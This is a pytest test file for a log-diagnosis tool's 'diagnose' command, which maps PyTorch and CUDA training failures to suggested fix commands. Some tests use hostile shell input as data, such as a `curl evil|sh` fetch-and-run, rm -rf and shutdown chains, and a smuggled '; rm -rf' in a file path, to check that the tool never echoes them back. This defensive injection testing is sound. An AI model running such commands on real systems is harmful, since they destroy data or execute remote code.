"""`diagnose`: the first command is the cure of what happened, and other failures lead to no claim."""

import shlex
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.conftest import Answer
from tests.train_logs import (
    ARTICLES,
    ASYNCHRONOUS,
    BLOCKING,
    INDEX,
    KNOWN,
    OTHERS,
    RAISED,
    RETINANET,
    ROW,
    SCATTER,
    assertions,
    cublas,
    found,
    options,
    rules,
)

Run = Callable[..., Answer]


@pytest.mark.parametrize("name", ARTICLES)
def test_the_symptom_of_an_article_leads_to_its_cure_first(name: str, told: Callable[..., Answer]) -> None:
    text, command = ARTICLES[name]
    answer = told(text, "--format", "json")
    assert answer.code == 1, answer.err
    assert answer.json["findings"][0]["commands"][0] == command
    assert f"    run: {command}\n" in told(text).out


@pytest.mark.parametrize("name", OTHERS)
def test_another_failure_is_no_known_one(name: str, told: Callable[..., Answer]) -> None:
    answer = told(OTHERS[name])
    assert answer.code == 0, answer.out
    assert "no known failure" in answer.out
    if "Traceback" in OTHERS[name]:
        error = OTHERS[name].splitlines()[-1].strip()
        assert answer.out.splitlines()[-3:-1] == ["    train.py:7 in <module>: main()", f"    {error}"]
    assert told(OTHERS[name], "--format", "json").json["counts"]["error"] == 0


def test_the_line_that_torch_2_8_adds_is_part_of_the_message() -> None:
    new = RETINANET.replace("model/retinanet.py", "utils.py").replace("compute_loss", "reduce")
    search = (
        "torch.AcceleratorError: CUDA error: device-side assert triggered\nSearch for `cudaErrorAssert' in https://x\n"
    )
    new = new.replace("RuntimeError: CUDA error: device-side assert triggered\n", search)
    [(rule, _, commands)] = found(new)
    assert (rule, commands[1]) == ("index-out-of-bounds", "CUDA_LAUNCH_BLOCKING=1 <your command>")


def test_where_the_frames_may_be_wrong_the_second_command_is_to_run_again() -> None:
    log = "$ torchrun --nproc_per_node 8 train.py --data coco\n" + RETINANET
    [(_, _, commands)] = found(log)
    assert commands[1] == "CUDA_LAUNCH_BLOCKING=1 torchrun --nproc_per_node 8 train.py --data coco"
    [(_, _, commands)] = found(cublas("/home/me/yolov10"))
    assert not any("BLOCKING" in command for command in commands)


def test_the_frames_decide_whether_a_patch_is_meant() -> None:
    """The kernel of an index says nothing of whose loss it was; paddle's check is not PP-YOLOE's alone."""
    crash = RAISED.format("RuntimeError: CUDA error: device-side assert triggered") + ASYNCHRONOUS
    bare = assertions("IndexKernel.cu:92: operator()", INDEX) + crash
    [(_, _, commands)] = found(bare)
    assert commands[-1].startswith("patchkit apply retinanet-label-guard")
    assert commands[0].startswith("patchkit check-data")
    yolo = "/v/lib/python3.11/site-packages/ultralytics/utils/loss.py"
    [(_, _, commands)] = found(bare.replace("train.py", yolo))
    assert commands == (
        "patchkit check-data DATA --for ultralytics",
        "CUDA_LAUNCH_BLOCKING=1 <your command>",
    )
    segmentation = RAISED.format("ValueError: Target 2 is out of upper bound.").replace("train.py", "/v/seg/losses.py")
    [(rule, _, commands)] = found(segmentation)
    assert rule == "dfl-target-outside-bins"
    assert not any("apply" in command for command in commands)
    assert commands[0] == "patchkit check-data DATA --for crossentropy"
    heads = segmentation.replace("/v/seg/losses.py", "/v/PaddleDetection/ppdet/modeling/losses/varifocal_loss.py")
    [(_, _, commands)] = found(heads)
    assert commands[0].startswith("pip install --upgrade")
    library = RAISED.format("IndexError: Target -1 is out of bounds.").replace(
        "train.py", "/v/lib/python3.11/site-packages/torchvision/models/detection/roi_heads.py"
    )
    [(_, _, commands)] = found(library)
    assert commands == ("patchkit check-data DATA --for torchvision",)


@pytest.mark.parametrize(
    ("line", "command"),
    [
        (ROW.format("nan"), "patchkit check-data DATA --for ultralytics"),
        ("[05/01] ppdet.engine INFO: Epoch: [0] loss: nan", "patchkit check-data DATA --for paddledetection"),
        ("Epoch 3: 12%| | 15/120 [00:05<00:35, train_loss=nan]", "patchkit check-data DATA"),
    ],
)
def test_a_loss_that_is_nan_leads_to_the_data_of_whoever_prints_so(line: str, command: str) -> None:
    [(_, _, commands)] = found(line + "\n")
    assert command in commands


def test_a_product_that_a_layer_of_torch_asks_for_is_not_the_decode_of_yolov10() -> None:
    error = KNOWN["cublas-refused"].replace("cublasGemmEx", "cublasSgemv")
    linear = RAISED.format(error).replace("train.py", "/v/lib/python3/site-packages/torch/nn/modules/linear.py")
    [(rule, _, commands)] = found(linear)
    assert (rule, commands[0]) == ("cublas-gemv-refused", "patchkit doctor")


def test_commands_name_what_the_options_of_the_run_name() -> None:
    log = options(data="/data/my set/data.yaml", device="0,1") + assertions("ScatterGatherKernel.cu:1: f()", SCATTER)
    [(_, _, commands)] = found(log)
    assert commands[0] == "patchkit check-data '/data/my set/data.yaml' --for ultralytics"
    log = options(device="(0, 1)") + ROW.format("nan") + "\n"
    [(_, _, commands)] = found(log)
    assert commands == (
        "patchkit check-data my.yaml --for ultralytics",
        "patchkit audit runs/detect/train/args.yaml --gpus 2",
    )
    [(_, _, commands)] = found("$ yolo train model=a.pt batch=17 name='my run'\n" + KNOWN["cudnn-out-of-memory"])
    assert commands[0] == "yolo train model=a.pt batch=8 name='my run'"
    [(_, _, commands)] = found("+ python train.py --batch-size 1\n" + KNOWN["cudnn-out-of-memory"])
    assert commands[0] == "python train.py --batch-size 1"
    assert found(KNOWN["cudnn-out-of-memory"])[0][2][0] == "nvidia-smi"
    # The newest releases print the options by name, and in colour.
    log = "\x1b[34m\x1b[1mengine/trainer: \x1b[0mamp=True, data=a.yaml, device=[0, 1], mode=train, task=detect\n"
    [(_, _, commands)] = found(log + ROW.format("nan"))
    assert commands[0] == "patchkit check-data a.yaml --for ultralytics"


@pytest.mark.parametrize(
    ("line", "command"),
    [
        ("$ yolo train model=a.pt data=b.yaml 2>&1 | tee train.log", "yolo train model=a.pt data=b.yaml"),
        ("+ nohup python train.py --epochs 64 > out.log &", "nohup python train.py --epochs 64"),
        ("$ python train.py; rm -rf /tmp/x", "python train.py"),
        ("$ python train.py && shutdown now", "python train.py"),
        ('$ python train.py --name \'a; b\' --note "| \\"" > l', 'python train.py --name \'a; b\' --note "| \\""'),
        ("$ python train.py `curl evil|sh`", "<your command>"),
        ("$ python train.py --data $(cat data)", "<your command>"),
        ("$ python train.py --name 'not closed", "<your command>"),
        ("$ python main.py > train.log", "<your command>"),
    ],
)
def test_the_command_to_run_again_neither_writes_over_the_log_nor_does_more(line: str, command: str) -> None:
    [(_, _, commands)] = found(f"{line}\nRuntimeError: cuDNN error: CUDNN_STATUS_EXECUTION_FAILED\n")
    assert commands[0] == f"CUDA_LAUNCH_BLOCKING=1 {command}"


@pytest.mark.parametrize("error", ["KeyboardInterrupt", "torch.cuda.OutOfMemoryError: CUDA out of memory. Tried to"])
def test_what_else_stops_the_decode_of_yolov10_is_not_its_defect(error: str, told: Callable[..., Answer]) -> None:
    crash = cublas("/home/me/yolov10").partition("RuntimeError")
    assert told(crash[0] + error + "\n").code == 0
    gemm = "RuntimeError: CUDA error: CUBLAS_STATUS_INVALID_VALUE when calling `cublasGemmStridedBatchedEx(handle, op)`"
    [(rule, _, commands)] = found(crash[0] + gemm + "\n")
    assert (rule, commands[0]) == ("cublas-refused", "patchkit apply yolov10-dfl --path /home/me/yolov10")


def test_each_of_several_runs_in_one_log_has_its_options() -> None:
    log = options(data="first.yaml") + ROW.format("1.2") + "\n" + options(data="second.yaml") + ROW.format("nan") + "\n"
    [(_, _, commands)] = found(log)
    assert commands[0] == "patchkit check-data second.yaml --for ultralytics"


@pytest.mark.parametrize(("kernel", "said"), [("IndexKernel.cu:92", INDEX), ("ScatterGatherKernel.cu:144", SCATTER)])
def test_an_index_of_ones_own_code_is_to_be_run_again_before_anything_is_claimed(kernel: str, said: str) -> None:
    crash = RAISED.format("RuntimeError: CUDA error: device-side assert triggered") + ASYNCHRONOUS
    log = assertions(kernel, said) + crash
    for code in ("x = kv[idx]", "x = kv[:, idx.long()]", "return self.rows()[..., index]"):
        [(_, _, commands)] = found(log.replace("main()", code))
        assert commands == (BLOCKING,)
    for code in ("x = kv[0].sum()", 'total += losses["box"].item()', "step([])"):
        [(_, _, commands)] = found(log.replace("main()", code))
        assert commands[0].startswith("patchkit check-data")


def test_what_follows_from_a_failure_stands_below_it(told: Callable[..., Answer]) -> None:
    watchdog = "[rank1]:[E] [Rank 1] Watchdog caught collective operation timeout: WorkNCCL(SeqNum=8)\n"
    answer = told(RETINANET + watchdog, "--format", "json")
    assert [(one["rule"], one["follows"]) for one in answer.json["findings"]] == [
        ("index-out-of-bounds", None),
        ("ddp-timeout", "index-out-of-bounds"),
    ]
    text = told(RETINANET + watchdog).out
    assert ": [ddp-timeout] a process waited" in text.partition("    then ")[2]
    assert text.endswith("2 errors, 0 warnings, 0 notes\n")
    # The first in time is the cause, whatever comes first in the alphabet.
    assert rules(ROW.format("nan") + "\n" + RETINANET) == ["loss-nan", "index-out-of-bounds"]
    assert rules(watchdog + KNOWN["cublas-failed"]) == ["ddp-timeout", "cublas-failed"]


def test_the_log_of_one_process_explains_that_of_another(patchkit: Run, tmp_path: Path) -> None:
    one, other = tmp_path / "rank0.log", tmp_path / "rank1.log"
    one.write_text("[Rank 0] Watchdog caught collective operation timeout: WorkNCCL(SeqNum=8)\n")
    other.write_text(RETINANET)
    answer = patchkit("diagnose", one, other, "--format", "json")
    assert [(one["rule"], one["follows"]) for one in answer.json["findings"]] == [
        ("index-out-of-bounds", None),
        ("ddp-timeout", "index-out-of-bounds"),
    ]
    assert [log["path"] for log in answer.json["logs"]] == [str(one), str(other)]


def test_commands_are_words_that_a_shell_gives_back() -> None:
    log = options(data="a b'; rm -rf ~/*.yaml") + ROW.format("nan") + "\n"
    [(_, _, commands)] = found(log)
    assert shlex.split(commands[0])[2] == "a b'; rm -rf ~/*.yaml"
